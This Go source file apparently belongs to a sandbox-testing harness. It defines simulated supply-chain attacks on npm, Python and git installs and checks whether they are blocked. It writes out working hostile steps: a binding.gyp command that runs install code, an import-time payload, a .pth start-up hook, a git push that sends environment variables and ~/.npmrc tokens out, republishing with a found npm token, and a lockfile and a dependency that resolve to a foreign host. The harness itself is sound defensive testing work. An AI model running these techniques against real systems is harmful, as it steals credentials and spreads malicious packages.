package drill

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha512"
	"encoding/base64"
	"errors"
	"fmt"

	"github.com/sallyport/sallyport/internal/boundary"
)

// ranStep is a hostile step in shell: it says first that it runs.
func ranStep(command string) string { return "echo 'drill: @MARK@'; " + command }

// installCases are the ways by which code of a package comes to run, or comes in.
func installCases() []Case {
	return []Case{implicitScript(), importTime(), pathHook(), forgePush(), republish(), foreignLockfile(), urlDependency()}
}

func implicitScript() Case {
	return Case{Name: "gyp", Tongue: "npm", Needs: []string{"npm", "/usr/bin/python3"},
		Files: map[string]string{
			"package.json": `{"name": "victim", "version": "1.0.0"}`, "evil/package.json": `{"name": "evil", "version": "1.0.0"}`,
			"evil/binding.gyp": `{"targets": [{"target_name": "x", "type": "none", "variables": {"v": "<!(node payload.js steal)"}}]}`,
			"evil/payload.js":  payload("payload.js"),
		},
		Acts:    one(boundary.Generate, "npm pack ./evil --silent && npm install --offline --foreground-scripts ./evil-1.0.0.tgz; echo 'drill: '$(test -e loot-steal && echo @MARK@)"),
		Attacks: []Attack{{ID: "R02.npm", Technique: "R02", Title: "install code without a scripts entry", Links: steals()}},
	}
}

func importTime() Case {
	return Case{Name: "import", Tongue: "npm", Needs: []string{"npm", "node"},
		Files: map[string]string{
			"package.json": `{"name": "victim", "version": "1.0.0"}`, "evil/package.json": `{"name": "evil", "version": "1.0.0", "main": "main.js"}`,
			"evil/main.js": "process.argv = ['node', 'x', 'steal'];\nrequire('./payload.js');\n", "evil/payload.js": payload("payload.js"),
		},
		Acts:    one(boundary.Test, `npm pack ./evil --silent && npm install --offline --ignore-scripts ./evil-1.0.0.tgz && node -e "require('evil')"`),
		Attacks: []Attack{{ID: "R03.npm", Technique: "R03", Title: "payload at import, install scripts are off", Links: steals()}},
	}
}

func pathHook() Case {
	return Case{Name: "pth", Tongue: "python", Needs: []string{"/usr/bin/python3"},
		Files: map[string]string{"evil/payload.py": payload("payload.py"),
			"lib/evil.pth": "import sys; sys.path.insert(0, '@SRC@/evil'); import payload; payload.run(['steal'])\n"},
		Acts:    one(boundary.Test, `/usr/bin/python3 -c "import site; site.addsitedir('lib')"`),
		Attacks: []Attack{{ID: "R05.python", Technique: "R05", Title: "start-up hook of the interpreter (.pth)", Links: steals()}},
	}
}

func one(zone boundary.Zone, command string) []Act {
	return []Act{{Stages: []Stage{{Zone: zone, Command: command}}}}
}

// forgePush sends the loot by git push: to a host that many allow-lists have.
func forgePush() Case {
	c := Case{Name: "push", Tongue: "git", Needs: []string{"git"},
		Prepare: func(ctx context.Context, w *World) error {
			_, err := w.command(ctx, &w.log, w.env(), "git", "init", "-q", "--bare", w.Dir+"/forge.git")
			return err
		},
		Acts: one(boundary.Build, ranStep(`git init -q loot && cd loot && { echo @CARRIER@; env; cat @HOME@/.npmrc; } >all; git add all && git -c user.name=a -c user.email=a@b commit -qm x && git push -q @DIR@/forge.git HEAD:refs/heads/main`)),
		Attacks: []Attack{{ID: "R15.git", Technique: "R15", Title: "exfiltration by a push to a forge", Links: []Link{
			{"pushes to a repository of the attacker", wallRoute, Harm, func(w *World) bool { return bytes.Contains(w.read("forge.txt"), []byte(w.carrier)) }},
			{"has credentials to push", wallSecrets, Theft, func(w *World) bool { return w.stole(w.read("forge.txt"), sources()...) }},
		}}},
	}
	c.Acts[0].Later = "git --git-dir=@DIR@/forge.git show main:all >@DIR@/forge.txt 2>/dev/null; true"
	return c
}

// republish spreads by the publish token that it finds.
func republish() Case {
	return Case{Name: "publish", Tongue: "npm", Needs: []string{"npm"},
		Files: map[string]string{"evil/package.json": `{"name": "evil", "version": "1.0.1"}`, "evil/README.md": "@CARRIER@"},
		Prepare: func(_ context.Context, w *World) error {
			return w.write("/home/.npmrc", "//"+w.sinks.HTTP+"/:_authToken="+w.kit[Npmrc]+"\n")
		},
		Acts: one(boundary.Generate, ranStep("npm publish --offline=false --registry http://@HTTP@/ --userconfig @HOME@/.npmrc ./evil")),
		Attacks: []Attack{{ID: "R17.npm", Technique: "R17", Title: "spreads by a publish token that it finds", Links: []Link{
			{"writes to a registry", wallRoute, Harm, func(w *World) bool { return w.carried("http/evil") }},
			{"reads the publish token", wallSecrets, Theft, func(w *World) bool { return w.stole(w.sinks.got("http/evil"), Npmrc) }},
		}}},
	}
}

// foreignLockfile has a lockfile that leads elsewhere, with a checksum that is
// right for what lies there.
func foreignLockfile() Case {
	return Case{Name: "resolved", Tongue: "npm", Needs: []string{"npm"}, Refused: []string{"E-GW-FOREIGN-HOST"},
		Files: map[string]string{"package.json": `{"name": "victim", "version": "1.0.0", "dependencies": {"evil": "1.0.0"}}`},
		Prepare: func(_ context.Context, w *World) error {
			b := tarball(map[string]string{"package.json": `{"name": "evil", "version": "1.0.0"}`})
			w.sinks.answer("/evil-1.0.0.tgz", b)
			sum := sha512.Sum512(b)
			at := elsewhere(w) + "/evil-1.0.0.tgz"
			return w.write("package-lock.json", fmt.Sprintf(`{"name": "victim", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": {
  "": {"name": "victim", "version": "1.0.0", "dependencies": {"evil": "1.0.0"}},
  "node_modules/evil": {"version": "1.0.0", "resolved": %q, "integrity": "sha512-%s"}}}`, at, base64.StdEncoding.EncodeToString(sum[:])))
		},
		Acts:    one(boundary.Fetch, "npm ci --ignore-scripts --registry http://@HTTP@/registry/; echo 'drill: @MARK@'"),
		Attacks: []Attack{{ID: "R19.npm", Technique: "R19", Title: "lockfile that leads off the registry, integrity is valid", Links: fromElsewhere()}},
	}
}

func urlDependency() Case {
	return Case{Name: "url", Tongue: "npm", Needs: []string{"npm"}, Refused: []string{"E-GW-FOREIGN-HOST"},
		Prepare: func(_ context.Context, w *World) error {
			w.sinks.answer("/evil-1.0.0.tgz", tarball(map[string]string{"package.json": `{"name": "evil", "version": "1.0.0"}`}))
			return w.write("package.json", fmt.Sprintf(`{"name": "victim", "version": "1.0.0", "dependencies": {"evil": %q}}`, elsewhere(w)+"/evil-1.0.0.tgz"))
		},
		Acts:    one(boundary.Fetch, "npm install --ignore-scripts --registry http://@HTTP@/registry/; echo 'drill: @MARK@'"),
		Attacks: []Attack{{ID: "R20.npm", Technique: "R20", Title: "dependency that is a URL", Links: fromElsewhere()}},
	}
}

// elsewhere is the HTTP sink by another name than the registry's.
func elsewhere(w *World) string { return "http://localhost" + w.sinks.HTTP[len("127.0.0.1"):] }

func fromElsewhere() []Link {
	return []Link{
		{"has a host of the attacker asked", wallRoute, Harm, func(w *World) bool { return len(w.sinks.got("http/evil-1.0.0.tgz")) > 0 }},
		{"installs what lies there", "every package is one that the lockfile names, from the registry", Harm, func(w *World) bool { return len(w.read("src/node_modules/evil/package.json")) > 0 }},
	}
}

// tarball packs files the way npm does.
func tarball(files map[string]string) []byte {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	t := tar.NewWriter(z)
	var errs error
	for name, text := range files {
		errs = errors.Join(errs, t.WriteHeader(&tar.Header{Name: "package/" + name, Mode: 0o644, Size: int64(len(text))}))
		_, err := t.Write([]byte(text))
		errs = errors.Join(errs, err)
	}
	if err := errors.Join(errs, t.Close(), z.Close()); err != nil {
		panic("drill: pack: " + err.Error()) // into memory
	}
	return out.Bytes()
}
